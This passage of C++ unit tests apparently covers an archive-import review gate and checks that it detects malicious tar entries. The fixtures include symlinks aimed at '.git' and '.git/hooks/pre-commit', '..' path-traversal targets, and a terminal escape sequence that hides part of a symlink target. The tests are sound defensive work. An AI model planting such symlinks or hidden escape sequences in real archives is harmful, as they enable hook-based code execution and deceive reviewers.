  for (ReviewMode mode : kEveryMode) {
    Scenario s;
    makeHostRepo(s.ws);
    s.snapshot();
    ASSERT_EQ(s.loadTar(makeTar({{"gl", 'l', "", ".git", 0777},
                                 {"hk", 'l', "", ".git/hooks/pre-commit", 0777},
                                 {"up", 'l', "", "src/../.git/hooks", 0777}})),
              "");
    auto d = s.diff();
    auto dec = reviewAndFlush(s, d, mode);
    auto m = byPath(d, dec);
    for (const char* p : {"gl", "hk", "up"}) {
      ASSERT_TRUE(m.count(p)) << p;
      EXPECT_EQ(m[p].second, Decision::GitMetadata) << p << " mode " << int(mode);
      EXPECT_FALSE(fs::exists(fs::symlink_status(s.ws + "/" + p))) << p;
    }
  }
}

TEST(Gate, SymlinkTargetWithControlCharactersIsFlagged) {
  Scenario s;
  writeFile(s.ws + "/README", "hi\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"tgt", 'l', "", "README\x1b[8m\rhidden", 0777}, {"ok", 'l', "", "README", 0777}})),
            "");
  auto d = s.diff();
  for (const auto& it : d.items) EXPECT_EQ(it.controlChars, it.path == "tgt") << it.path;
  std::string table = summaryTable(d.items);
  EXPECT_NE(table.find("tgt  [control characters in content]"), std::string::npos) << table;
}

TEST(Gate, FinalTreeResolvesEveryHop) {
  Manifest base;
  base.add("d", {EntryType::Dir, 0755});
  base.add("d/e", {EntryType::Dir, 0755});
  base.add("d/e/up", {EntryType::Symlink, 0777, 0, 0, "", "../.."});
  base.add("d/f", {EntryType::File, 0644});
  FinalTree t(base);
  t.finish();
  auto r = t.resolve("d/e/up/d/f");
  ASSERT_EQ(r.size(), 1u);
  EXPECT_EQ(r[0].kind, Resolution::Kind::Inside);
  EXPECT_EQ(r[0].path, "d/f");
  EXPECT_EQ(r[0].hops, 1);
  EXPECT_EQ(t.resolve("d/e/up/..")[0].kind, Resolution::Kind::Outside);
  std::vector<std::string> names;
  ASSERT_TRUE(t.aliases("d/f", names)) << "a loop adds a bounded number of names";
  EXPECT_NE(std::find(names.begin(), names.end(), "d/e/up/d/f"), names.end());
}

}  // namespace
}  // namespace airlock::workspace
